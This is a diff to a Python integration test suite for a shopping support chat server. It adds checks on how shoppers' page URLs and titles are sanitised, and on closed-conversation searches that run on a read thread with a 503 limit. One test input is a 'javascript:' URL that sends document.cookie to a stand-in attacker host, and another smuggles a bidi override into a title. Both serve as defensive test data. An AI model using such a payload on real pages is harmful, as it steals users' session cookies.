@@ -8,13 +8,20 @@ with their options, totals, the payment link; never the page's token) and
 the bot's canned replies in the shopper's locale; bot.json's canned replies
 are checked at load with errors that name the place; the queue names a web
 chat shopper by a visitor number (kept across handoffs) and the page they
-are on (400 for a page that is not {url, title}); closed and handed-back
+are on (400 for a page that is not {url, title}; a url that is no absolute
+http(s) URL drops the page, and the title loses control and bidi override
+characters); closed and handed-back
 conversations leave the queue for GET /v1/agent/closed, newest first,
 paged, searched by shopper id, transcript text or order number, and
-scoped by a brand's token; bad parameters -> 400."""
+scoped by a brand's token; bad parameters -> 400. A search of closed
+conversations runs on the store's read thread (held still by the test-only
+POST /v1/test/reads): /v1/health/ready and the queue answer while it
+waits, and a third search at once is told to come back (503)."""
 
+import http.client
 import json
 import os
+import select
 import shutil
 import subprocess
 import sys
@@ -171,6 +178,20 @@ def main(tap):
         check.assertEqual(a.post({"text": "I'm at the checkout", "page": newer}).status, 202)
         wait_until(lambda: (queue_row("webchat", a.user) or {}).get("page") == newer,
                    what="the queue showing the newer page")
+        # a page whose url is no http(s) URL is dropped; the message goes through
+        said = "still here %d" % run
+        r = a.post({"text": said, "page": {"url": "javascript:fetch('//evil.example/'+document.cookie)",
+                                           "title": "Checkout\u202e\n"}})
+        check.assertEqual(r.status, 202, r)
+        wait_until(lambda: said in json.dumps(detail("webchat", a.user)["transcript"]), what="the message recorded")
+        check.assertEqual(queue_row("webchat", a.user)["page"], newer, "the javascript: page was not kept")
+        for url in ("//shop.example/x", "https://", "https:///path", "data:text/html,hi", "https://shop.example/a b"):
+            check.assertEqual(a.post({"text": "hi", "page": {"url": url, "title": "t"}}).status, 202)
+        # the title loses control characters and bidi overrides
+        shown = {"url": "HTTPS://shop.example/pay", "title": "Pay\u202e\u2066 now\n\u0085"}
+        check.assertEqual(a.post({"text": "paying", "page": shown}).status, 202)
+        wait_until(lambda: (queue_row("webchat", a.user) or {}).get("page") ==
+                   {"url": "HTTPS://shop.example/pay", "title": "Pay now"}, what="the page with its title cleaned")
         for bad in ({"url": "x" * 3000}, {"title": "no url"}, "https://shop.example/", {"url": 7}):
             check_error(a.post({"text": "hi", "page": bad}), 400, r'"page"')
         check.assertEqual(act("webchat", a.user, "claim", {"agent": "Mia"}).status, 200)
@@ -261,6 +282,53 @@ def main(tap):
         check.assertEqual(closed("?q=%25")["conversations"], [], "% is a character, not a wildcard")
 
     tap.case("GET /v1/agent/closed: bad limit, offset or q -> 400; no token -> 401; POST -> 405", closed_bad)
+
+    def hold_reads(hold):
+        r = srv.request("POST", "/v1/test/reads", {"hold": hold})
+        check.assertEqual(r.status, 200, r)
+
+    def start_search(q):
+        """Sends GET /v1/agent/closed?q= and leaves its answer to be read."""
+        conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=30)
+        conn.request("GET", "/v1/agent/closed?q=" + q, headers=bearer(ALL))
+        return conn
+
+    def answered(conn):
+        readable, _, _ = select.select([conn.sock], [], [], 0)
+        return bool(readable)
+
+    def finish_search(conn):
+        r = conn.getresponse()
+        body = json.loads(r.read())
+        conn.close()
+        check.assertEqual(r.status, 200, body)
+        return body
+
+    def closed_off_the_loop(run):
+        word = "hazelnut%d%s" % (run, os.urandom(3).hex())
+        u = new_user("closedlong")
+        srv.say(BOT, u, "talk to a person")
+        srv.say(BOT, u, "one %s latte please" % word)
+        check.assertEqual(act("rest", u, "close", {"agent": "Mia"}).status, 200)
+        hold_reads(True)
+        searches = []
+        try:
+            searches = [start_search(word), start_search(word.upper())]
+            # the searches wait on the read thread; the server goes on answering
+            check.assertEqual(srv.request("GET", "/v1/health/ready").status, 200)
+            check.assertEqual(get("/v1/agent/conversations").status, 200)
+            check.assertFalse(any(answered(c) for c in searches), "the searches wait on the read thread, not the loop")
+            r = get("/v1/agent/closed?q=" + word)
+            check_error(r, 503, "other searches")
+            check.assertEqual(r.headers.get("retry-after"), "1")
+        finally:
+            hold_reads(False)
+        for conn in searches:
+            check.assertEqual([c["user"] for c in finish_search(conn)["conversations"]], [u])
+        check.assertEqual([c["user"] for c in closed("?q=" + word)["conversations"]], [u], "a slot is free again")
+
+    tap.case("GET /v1/agent/closed?q= runs on the store's read thread: ready and the queue answer meanwhile; "
+             "a third search at once -> 503", closed_off_the_loop)
 
     def log_clean(run):
         errors = [line for line in srv.log_since(0) if " ERROR " in line]
